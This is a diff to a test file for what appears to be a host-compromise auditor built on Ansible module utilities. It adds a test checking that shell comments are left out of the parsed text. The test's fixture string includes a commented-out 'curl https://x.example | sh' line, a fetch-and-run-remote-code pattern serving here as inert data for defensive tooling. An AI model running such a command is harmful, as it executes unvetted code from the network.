@@ -19,7 +19,7 @@ from ansible.module_utils.luytre._reading import Reading
 from ansible.module_utils.luytre_hunt import entering, loading, packaged, programs, running, stamps, starting
 from ansible.module_utils.luytre_hunt.packaged import Packaged
 from ansible.module_utils.luytre_hunt.packing import packed
-from ansible.module_utils.luytre_hunt.places import MAX_LINES, MAX_SAID, MAX_TEXT, Places
+from ansible.module_utils.luytre_hunt.places import MAX_LINES, MAX_SAID, MAX_TEXT, Places, said_by
 from ansible.module_utils.luytre_shared import safe_open
 
 from auditor.compromise import places as taken_in
@@ -115,6 +115,11 @@ def test_what_a_package_put_aside_lies_elsewhere(dpkg: Path) -> None:
     assert files.standing(str(root / "kept.real")) == "packaged"
     assert files.standing(str(root / "kept")) == "packaged"
     assert files.standing(str(root / "edited")) == "changed"
+
+
+def test_a_comment_of_a_shell_is_none_of_what_a_file_says() -> None:
+    text = "# a\n: # curl https://x.example | sh\n: ${X:=curl}\n  : #  x \\\n: #  y\nz\n"
+    assert [line for _number, line in said_by(text)] == [": ${X:=curl}", "z"]
 
 
 def test_modules_in_the_kernel_that_no_package_brought_are_told(gathered: Places, tmp_path: Path) -> None:
